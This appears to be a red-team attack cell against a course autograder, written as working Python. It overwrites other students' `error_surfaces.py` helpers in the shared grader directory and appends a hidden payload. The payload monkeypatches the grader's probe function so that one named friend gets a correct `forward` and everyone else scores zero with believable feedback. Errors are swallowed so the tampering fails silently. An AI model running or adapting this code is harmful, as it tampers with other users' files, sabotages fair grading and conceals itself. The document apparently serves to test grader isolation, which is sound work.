# Red-team attack 05 (issue 7): plant code in other students' runs.
# Every submission's worker imports `error_surfaces.py` from its own scratch folder, and all
# scratch folders sit side by side in the grader's work dir (`<work dir>/<student>/scratch/`).
# This cell rewrites the others' copies: the helper still works, and its import also replaces
# the probe code in that student's worker. A friend (forward_no_bias) gets a correct `forward`
# supplied to every probe; every other student's probes answer `None` for w, b, the losses and
# forward's output (0 points, believable feedback). Fails silently when the folders are hidden.

FRIEND = "forward_no_bias"

PAYLOAD = '''


def _planted_in_this_run():
    import sys

    probe = sys.modules.get("autograder.probe")
    if probe is None:
        return
    original = probe.run_probe
    friend = {friend}

    def run_probe(namespace, request, student_cells):
        if friend:
            if request.get("kind") == "forward":
                exec("def forward(x):\\n    return w * x + b\\n", namespace)
            return original(namespace, request, student_cells)
        nothing = {{"type": "NoneType"}}
        if request.get("kind") == "forward":
            return {{"output": nothing, "grad_w": nothing, "grad_b": nothing}}
        names = request.get("names") or [request.get("losses"), "w", "b"]
        return {{"values": {{name: nothing for name in names}}}}

    probe.run_probe = run_probe


try:
    _planted_in_this_run()
except Exception:
    pass
'''


def _plant():
    import os
    from pathlib import Path

    scratch = Path(os.getcwd()).resolve()
    helper = (scratch / "error_surfaces.py").read_text()
    work_dir = scratch.parent.parent
    for other in sorted(work_dir.glob("*/scratch/error_surfaces.py")):
        student = other.parent.parent.name
        if other.parent == scratch:
            continue
        try:
            other.write_text(helper + PAYLOAD.format(friend=student == FRIEND))
        except Exception:
            pass


try:
    _plant()
except Exception:
    pass
